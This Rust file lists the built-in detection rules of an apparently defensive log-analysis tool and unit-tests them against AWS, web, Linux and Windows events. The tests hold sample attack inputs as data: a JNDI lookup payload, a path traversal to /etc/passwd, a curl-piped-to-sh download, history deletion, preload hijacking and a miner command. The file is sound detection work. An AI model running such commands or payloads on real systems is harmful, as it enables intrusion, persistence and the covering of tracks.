//! The rules that come with Abate: a small set that needs no download. The community's sets are loaded beside it.

macro_rules! files {
    ($($name:literal),* $(,)?) => {
        &[$((concat!("rules/", $name), include_str!(concat!("../../rules/", $name)))),*]
    };
}

/// Path and text of each rule.
pub(super) const FILES: &[(&str, &str)] = files![
    "aws_admin_policy_attached.yml",
    "aws_bucket_opened.yml",
    "aws_identity_probe_by_attack_tool.yml",
    "aws_quarantine_policy.yml",
    "aws_root_access_key.yml",
    "aws_trail_tampering.yml",
    "linux_history_removed.yml",
    "linux_library_preload_written.yml",
    "linux_miner_command.yml",
    "linux_new_user_with_uid_zero.yml",
    "linux_root_password_login.yml",
    "web_environment_file_served.yml",
    "web_instance_metadata_in_request.yml",
    "web_jndi_lookup.yml",
    "web_path_traversal.yml",
    "windows_event_log_cleared.yml",
];

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use abate_model::rows::{
        AccountChange, ApiActivity, Authentication, FileActivity, HttpActivity, ProcessActivity, ScheduledJobActivity, TimedText,
    };
    use abate_model::{Body, EntityKind, Locator, Row, ZoneCertainty};
    use serde_json::{Value, json};

    use super::super::RuleSet;

    fn row(body: Body<'static>) -> Row<'static> {
        Row { at: None, zone: ZoneCertainty::Stated, source: 0, locator: Locator::Record { n: 0 }, body }
    }

    fn titles(row: &Row<'_>, raw: &[u8]) -> Vec<String> {
        RuleSet::builtin().eval(row, raw).into_iter().map(|hit| hit.rule.title.clone()).collect()
    }

    fn aws(service: &str, name: &str, more: Value) -> Vec<String> {
        let mut record = json!({"eventName": name, "eventSource": format!("{service}.amazonaws.com"), "userIdentity": {"type": "IAMUser"}});
        for (key, value) in more.as_object().unwrap() {
            record[key] = value.clone();
        }
        let api = ApiActivity { event_name: name.to_owned().into(), ..ApiActivity::default() };
        titles(&row(Body::Api(Box::new(api))), record.to_string().as_bytes())
    }

    fn web(target: &str, status: u16, agent: &str) -> Vec<String> {
        let http = HttpActivity {
            client: "203.0.113.5".into(),
            method: "GET".into(),
            target: target.to_owned().into(),
            status: Some(status),
            user_agent: Some(agent.to_owned().into()),
            ..HttpActivity::default()
        };
        titles(&row(Body::Http(Box::new(http))), b"")
    }

    #[test]
    fn every_rule_loads_with_author_and_unique_id() {
        let (set, problems) = RuleSet::load(super::FILES.iter().map(|(p, y)| ((*p).to_owned(), (*y).to_owned())));
        assert_eq!(problems, Vec::new());
        assert_eq!(set.len(), super::FILES.len());
        let authors: BTreeSet<_> = set.entries().map(|entry| entry.info.author.clone()).collect();
        assert_eq!(authors, BTreeSet::from([Some("Abate contributors".to_owned())]));
        for entry in set.entries() {
            let info = &entry.info;
            assert!(info.id.len() == 36 && !info.title.is_empty(), "{}", entry.path);
            assert!(info.tags.iter().any(|tag| tag.starts_with("attack.t")), "{} names its technique", entry.path);
            assert!(!entry.description.is_empty() && !entry.falsepositives.is_empty() && entry.status.is_some(), "{}", entry.path);
            assert!(info.level > abate_model::Severity::Informational, "{}", entry.path);
            assert_eq!(entry.missing_fields, Vec::<String>::new(), "{}", entry.path);
        }
    }

    #[test]
    fn cloudtrail_rules_hit_and_miss() {
        let trail = ["Trail stopped or deleted"];
        assert_eq!(aws("cloudtrail", "StopLogging", json!({})), trail);
        assert!(aws("cloudtrail", "StopLogging", json!({"errorCode": "AccessDenied"})).is_empty());
        assert!(aws("cloudtrail", "GetTrail", json!({})).is_empty());

        let policy = |name: &str| json!({"requestParameters": {"userName": "x", "policyArn": format!("arn:aws:iam::aws:policy/{name}")}});
        assert_eq!(aws("iam", "AttachUserPolicy", policy("AdministratorAccess")), ["Administrator policy attached"]);
        assert!(aws("iam", "AttachUserPolicy", policy("ReadOnlyAccess")).is_empty());
        assert_eq!(aws("iam", "AttachUserPolicy", policy("AWSCompromisedKeyQuarantineV3")), ["AWS quarantined an identity"]);

        assert_eq!(aws("sts", "GetCallerIdentity", json!({"userAgent": "TruffleHog"})), ["Identity probe by an attack tool"]);
        assert!(aws("sts", "GetCallerIdentity", json!({"userAgent": "aws-cli/2.15"})).is_empty());

        let acl = |acl: &str| json!({"requestParameters": {"bucketName": "b", "x-amz-acl": [acl]}});
        assert_eq!(aws("s3", "PutBucketAcl", acl("public-read")), ["Bucket opened to everybody"]);
        assert!(aws("s3", "PutBucketAcl", acl("private")).is_empty());
        let open = json!({"requestParameters": {"bucketPolicy": {"Statement": [{"Effect": "Allow", "Principal": "*"}]}}});
        assert_eq!(aws("s3", "PutBucketPolicy", open), ["Bucket opened to everybody"]);

        assert_eq!(aws("iam", "CreateAccessKey", json!({"userIdentity": {"type": "Root"}})), ["Access key made by the root user"]);
        assert!(aws("iam", "CreateAccessKey", json!({})).is_empty());
    }

    #[test]
    fn web_rules_hit_and_miss() {
        assert_eq!(web("/?x=%24%7Bjndi:ldap://198.51.100.9/a%7D", 404, "x"), ["JNDI lookup in a request"]);
        assert_eq!(web("/", 200, "${jndi:ldap://198.51.100.9/a}"), ["JNDI lookup in a request"]);
        assert_eq!(web("/cgi-bin/%2e%2e/%2e%2e/%2e%2e/etc/passwd", 400, "x"), ["Path traversal in a request"]);
        assert_eq!(web("/app/.env", 200, "x"), ["Environment or repository file served"]);
        assert!(web("/app/.env", 404, "x").is_empty());
        assert_eq!(web("/fetch?url=http://169.254.169.254/latest/meta-data/", 200, "x"), ["Instance metadata address in a request"]);
        assert!(web("/index.html?page=2", 200, "Mozilla/5.0").is_empty());
    }

    #[test]
    fn rules_for_what_runs_on_hosts_hit_and_miss() {
        let run = |exe: &'static str, command: &'static str| {
            let run = ProcessActivity {
                exe: Some(exe.into()),
                command: command.into(),
                program: Some("audit".into()),
                ..ProcessActivity::default()
            };
            titles(&row(Body::Process(Box::new(run))), b"")
        };
        assert_eq!(run("/usr/bin/rm", "rm -f /root/.bash_history"), ["Command history removed"]);
        assert!(run("/usr/bin/rm", "rm -f /tmp/x").is_empty());
        assert!(run("/usr/bin/less", "less /root/.bash_history").is_empty());
        assert_eq!(run("/tmp/.x/a", "/tmp/.x/a -o stratum+tcp://pool.example.com:3333"), ["Mining program started"]);
        assert!(run("/usr/bin/curl", "curl https://pool.example.com/").is_empty());

        let file = |path: &'static str, process: &'static str| {
            let made = FileActivity { path: path.into(), process: Some(process.into()), ..FileActivity::default() };
            titles(&row(Body::File(Box::new(made))), b"")
        };
        assert_eq!(file("/etc/ld.so.preload", "/tmp/.x/a"), ["File for preloaded libraries written"]);
        assert!(file("/etc/ld.so.preload", "/usr/bin/dpkg").is_empty() && file("/etc/ld.so.conf", "/tmp/.x/a").is_empty());

        let event = |provider: &str, channel: &str, id: u32| {
            let raw = format!(
                "<Event xmlns='x'><System><Provider Name='{provider}'/><EventID>{id}</EventID><Channel>{channel}</Channel></System><EventData/></Event>"
            );
            titles(&row(Body::Event(Box::default())), raw.as_bytes())
        };
        assert_eq!(event("Microsoft-Windows-Eventlog", "Security", 1102), ["Windows event log cleared"]);
        assert_eq!(event("Microsoft-Windows-Eventlog", "System", 104), ["Windows event log cleared"]);
        assert!(event("Microsoft-Windows-Eventlog", "Security", 1101).is_empty() && event("Other", "System", 104).is_empty());
    }

    #[test]
    fn commands_and_jobs_are_seen_by_their_words() {
        let rule = |id: u32, service: &str, word: &str| {
            format!(
                "title: {service}\nid: {id}\nlogsource:\n  product: linux\n  service: {service}\ndetection:\n  k:\n    - '{word}'\n  condition: k\n"
            )
        };
        let rules = [rule(1, "sudo", "USER=root ; COMMAND=/bin/bash"), rule(2, "auth", "alice : TTY"), rule(3, "cron", "CMD (curl ")];
        let (set, problems) = RuleSet::load(rules.into_iter().map(|yaml| ("r.yml".to_owned(), yaml)));
        assert_eq!(problems, Vec::new());
        let titles = |body: Body<'static>, raw: &str| -> Vec<String> {
            set.eval(&row(body), raw.as_bytes()).into_iter().map(|hit| hit.rule.title.clone()).collect()
        };
        let run = ProcessActivity { command: "/bin/bash".into(), program: Some("sudo".into()), ..ProcessActivity::default() };
        let line = "Nov 20 00:01:10 web1 sudo[4]:  alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash";
        assert_eq!(titles(Body::Process(Box::new(run)), line), ["sudo", "auth"]);
        let job = ScheduledJobActivity { change: "run".into(), program: Some("CROND".into()), ..ScheduledJobActivity::default() };
        assert_eq!(titles(Body::Job(Box::new(job)), "Nov 20 00:01:10 web1 CROND[4]: (root) CMD (curl 192.0.2.1)"), ["cron"]);
    }

    #[test]
    fn rules_for_the_start_of_processes_and_for_files_see_those_of_linux_only() {
        let rule = |id: u32, category: &str, field: &str, value: &str| {
            format!(
                "title: {category}\nid: {id}\nlogsource:\n  product: linux\n  category: {category}\ndetection:\n  s:\n    {field}: '{value}'\n  condition: s\n"
            )
        };
        let rules = [
            rule(1, "process_creation", "Image|endswith", "/curl"),
            rule(2, "process_creation", "CommandLine|contains", "| sh"),
            rule(3, "file_event", "TargetFilename|startswith", "/etc/cron.d/"),
        ];
        let (set, problems) = RuleSet::load(rules.into_iter().map(|yaml| ("r.yml".to_owned(), yaml)));
        assert_eq!(problems, Vec::new());
        let hits = |body: Body<'static>| set.eval(&row(body), b"").len();
        let run = |program: Option<&'static str>| {
            Body::Process(Box::new(ProcessActivity {
                name: Some("curl".into()),
                command: "curl http://192.0.2.1/x | sh".into(),
                program: program.map(Into::into),
                ..ProcessActivity::default()
            }))
        };
        assert_eq!((hits(run(Some("bash"))), hits(run(None))), (2, 0));
        let file = |process: &'static str| {
            let made = FileActivity { path: "/etc/cron.d/x".into(), process: Some(process.into()), ..FileActivity::default() };
            Body::File(Box::new(made))
        };
        assert_eq!((hits(file("/usr/bin/bash")), hits(file("C:\\x.exe"))), (1, 0));
    }

    #[test]
    fn linux_rules_hit_and_miss_and_name_who() {
        let login = |user: &str, how: &str| {
            row(Body::Auth(Box::new(Authentication {
                service: "sshd".into(),
                user: Some(user.to_owned().into()),
                source: "203.0.113.5".parse().ok(),
                message: format!("Accepted {how} for {user} from 203.0.113.5 port 40000 ssh2").into(),
                ..Authentication::default()
            })))
        };
        let hits = RuleSet::builtin().eval(&login("root", "password"), b"");
        assert_eq!(hits.iter().map(|h| h.rule.title.as_str()).collect::<Vec<_>>(), ["Root signed in by password"]);
        assert!(hits[0].entities.iter().any(|e| e.kind == EntityKind::RemoteAddress && e.value == "203.0.113.5"));
        assert!(titles(&login("root", "publickey"), b"").is_empty());
        assert!(titles(&login("rooty", "password"), b"").is_empty());

        let line = |message: &str| {
            row(Body::Text(TimedText { program: Some("useradd".into()), message: message.to_owned().into(), ..TimedText::default() }))
        };
        assert_eq!(titles(&line("new user: name=toor, UID=0, GID=0, home=/root"), b""), ["New user with the rights of root"]);
        assert!(titles(&line("new user: name=web, UID=1001, GID=1001, home=/home/web"), b"").is_empty());
        let change = AccountChange {
            program: Some("useradd".into()),
            user: Some("toor".into()),
            message: "new user: name=toor, UID=0, GID=0, home=/root".into(),
            ..AccountChange::default()
        };
        let made = RuleSet::builtin().eval(&row(Body::Account(Box::new(change))), b"");
        assert_eq!(made.iter().map(|h| h.rule.title.as_str()).collect::<Vec<_>>(), ["New user with the rights of root"]);
        assert!(made[0].entities.iter().any(|e| e.kind == EntityKind::User && e.value == "toor"));
    }
}
